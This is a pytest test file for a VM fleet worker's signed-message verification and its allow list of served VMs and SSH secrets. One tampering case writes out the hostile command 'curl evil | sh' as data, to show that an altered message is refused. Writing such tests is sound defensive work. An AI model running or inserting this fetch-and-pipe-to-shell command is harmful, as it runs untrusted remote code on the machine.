"""vmfleet.api.signing and vmfleet.api.served: what a worker runs and what it refuses."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest

from vmfleet.api.constants import TASK_EXECUTE, TASK_TERMINATE
from vmfleet.api.envelope import Envelope, Target
from vmfleet.api.served import Served
from vmfleet.api.signing import (
    Refusal,
    Refused,
    Signer,
    SigningKeyError,
    Verifier,
    generate_private_key,
    load_private_key,
    load_public_key,
    private_pem,
    public_pem,
    write_key_pair,
)

KEY = generate_private_key()
SIGNER = Signer(KEY, ttl_seconds=360)
VERIFIER = Verifier(KEY.public_key())
NOW = 1_800_000_000.0


def envelope_body() -> dict[str, Any]:
    target = Target("vm1", "10.0.0.1", 22, "ops", "vm1-ssh", host_keys=("ssh-ed25519 AAAA",))
    return Envelope(namespace="team-a", name="c", uid="u1", vm="vm1", attempt=1,
                    dispatch_time="t0", spec={"command": "uptime"}, target=target).to_message()


def signed(**changes: Any) -> dict[str, Any]:
    message = SIGNER.sign(TASK_EXECUTE, envelope_body(), now=NOW)
    message.update(changes)
    return message


def test_a_signed_message_opens_to_the_body_it_was_signed_with() -> None:
    body = VERIFIER.open(signed(), TASK_EXECUTE, now=NOW + 1)
    assert body == envelope_body() | {"target": {**envelope_body()["target"],
                                                  "host_keys": ["ssh-ed25519 AAAA"]}}
    assert Envelope.from_message(body).target == Envelope.from_message(envelope_body()).target


def _set(path: tuple[str, ...], value: Any) -> Any:
    def change(message: dict[str, Any]) -> dict[str, Any]:
        message = copy.deepcopy(message)
        node = message
        for key in path[:-1]:
            node = node[key]
        node[path[-1]] = value
        return message
    return change


@pytest.mark.parametrize("change, reason", [
    # Any one field changed: the signature covers the whole message.
    (_set(("body", "spec", "command"), "curl evil | sh"), Refusal.BAD_SIGNATURE),
    (_set(("body", "uid"), "u2"), Refusal.BAD_SIGNATURE),
    (_set(("body", "vm"), "vm2"), Refusal.BAD_SIGNATURE),
    (_set(("body", "target", "host"), "10.6.6.6"), Refusal.BAD_SIGNATURE),
    (_set(("body", "target", "secret"), "other-ssh"), Refusal.BAD_SIGNATURE),
    (_set(("body", "attempt"), 2), Refusal.BAD_SIGNATURE),
    (_set(("body", "extra"), True), Refusal.BAD_SIGNATURE),
    (_set(("expires",), NOW + 10 ** 6), Refusal.BAD_SIGNATURE),  # a later expiry
    (_set(("task",), TASK_TERMINATE), Refusal.BAD_SIGNATURE),
    (_set(("signature",), "not base64!"), Refusal.BAD_SIGNATURE),
    (_set(("signature",), "AAAA"), Refusal.BAD_SIGNATURE),
    (_set(("signed",), 2), Refusal.UNSIGNED),
    (lambda m: {k: v for k, v in m.items() if k != "signature"}, Refusal.UNSIGNED),
    (lambda m: m["body"], Refusal.UNSIGNED),  # a bare envelope, as before signatures
    (lambda m: "just a string", Refusal.UNSIGNED),
])
def test_a_message_changed_anywhere_is_refused(change: Any, reason: str) -> None:
    with pytest.raises(Refused) as refused:
        VERIFIER.open(change(signed()), TASK_EXECUTE, now=NOW)
    assert refused.value.reason == reason
    assert "curl" not in str(refused.value) and "uptime" not in str(refused.value)  # no content


def test_an_expired_message_is_refused_and_a_fresh_signature_is_not() -> None:
    message = signed()
    assert VERIFIER.open(message, TASK_EXECUTE, now=message["expires"]) is not None
    with pytest.raises(Refused) as refused:
        VERIFIER.open(message, TASK_EXECUTE, now=message["expires"] + 0.01)
    assert refused.value.reason == Refusal.EXPIRED
    resent = SIGNER.sign(TASK_EXECUTE, envelope_body(), now=NOW + 300)  # the redispatch
    assert VERIFIER.open(resent, TASK_EXECUTE, now=message["expires"] + 1)


def test_a_message_signed_with_another_key_is_refused() -> None:
    other = Signer(generate_private_key(), 360).sign(TASK_EXECUTE, envelope_body(), now=NOW)
    with pytest.raises(Refused) as refused:
        VERIFIER.open(other, TASK_EXECUTE, now=NOW)
    assert refused.value.reason == Refusal.BAD_SIGNATURE


def test_a_message_for_another_task_is_refused() -> None:
    message = SIGNER.sign(TASK_TERMINATE, {"namespace": "team-a"}, now=NOW)
    with pytest.raises(Refused) as refused:
        VERIFIER.open(message, TASK_EXECUTE, now=NOW)
    assert refused.value.reason == Refusal.WRONG_TASK


def test_a_worker_without_a_key_runs_nothing() -> None:
    with pytest.raises(Refused) as refused:
        Verifier(None).open(signed(), TASK_EXECUTE, now=NOW)
    assert refused.value.reason == Refusal.NO_KEY


def test_keys_load_from_pem_and_base64_and_bad_ones_are_named(tmp_path: Path) -> None:
    private, public = write_key_pair(tmp_path)
    assert private.stat().st_mode & 0o777 == 0o600
    key = load_private_key(private.read_text())
    assert public_pem(load_public_key(public.read_text())) == public_pem(key.public_key())
    raw = key.public_key().public_bytes_raw()
    import base64
    assert public_pem(load_public_key(base64.b64encode(raw).decode())) == public.read_text()
    assert write_key_pair(tmp_path) == (private, public)  # kept: not a new pair each start
    assert load_private_key(private.read_text()).private_bytes_raw() == key.private_bytes_raw()
    with pytest.raises(SigningKeyError):
        load_private_key("-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n")
    with pytest.raises(SigningKeyError):
        load_public_key(private_pem(key))
    with pytest.raises(SigningKeyError):
        load_public_key("c2hvcnQ=")


# --------------------------------------------------------------------------- served set

SERVED = Served.parse('{"team-a/vm1": "vm1-ssh", "team-a/bastion": "bastion-ssh"}')


def target(vm: str = "vm1", secret: str = "vm1-ssh", bastion: Target | None = None) -> Target:
    return Target(vm, "10.0.0.1", 22, "ops", secret, bastion=bastion)


@pytest.mark.parametrize("namespace, tgt, reason", [
    ("team-a", target(), None),
    ("team-a", target(bastion=target("bastion", "bastion-ssh")), None),
    ("team-b", target(), Refusal.NOT_SERVED),  # another namespace's vm1
    ("team-a", target("vm2", "vm2-ssh"), Refusal.NOT_SERVED),
    ("team-a", target(secret="vm2-ssh"), Refusal.WRONG_SECRET),  # a Secret not vm1's
    ("team-a", target(secret="bastion-ssh"), Refusal.WRONG_SECRET),
    ("team-a", target(bastion=target("bastion", "vm1-ssh")), Refusal.WRONG_SECRET),
    ("team-a", target(bastion=target("gateway", "gateway-ssh")), Refusal.NOT_SERVED),
])
def test_the_served_set_names_vms_with_their_secrets(namespace: str, tgt: Target,
                                                     reason: str | None) -> None:
    if reason is None:
        SERVED.check(namespace, tgt)
        return
    with pytest.raises(Refused) as refused:
        SERVED.check(namespace, tgt)
    assert refused.value.reason == reason


def test_wildcards_serve_a_namespace_or_everything_and_nothing_serves_nothing() -> None:
    Served.parse('{"team-a/*": "*"}').check("team-a", target("any", "any-ssh"))
    with pytest.raises(Refused):
        Served.parse('{"team-a/*": "*"}').check("team-b", target())
    Served.parse('{"*": "*"}').check("team-b", target())
    for empty in (None, "", "{}"):
        with pytest.raises(Refused):
            Served.parse(empty).check("team-a", target())


def test_a_served_set_round_trips_and_a_bad_one_is_named() -> None:
    served = Served.of("team-a", [("vm2", "vm2-ssh"), ("vm1", "vm1-ssh")])
    assert served.encode() == '{"team-a/vm1":"vm1-ssh","team-a/vm2":"vm2-ssh"}'
    assert Served.parse(served.encode()) == served
    for bad in ("[]", "{", '{"a": 1}'):
        with pytest.raises(ValueError, match="VMFLEET_SERVED_VMS"):
            Served.parse(bad)
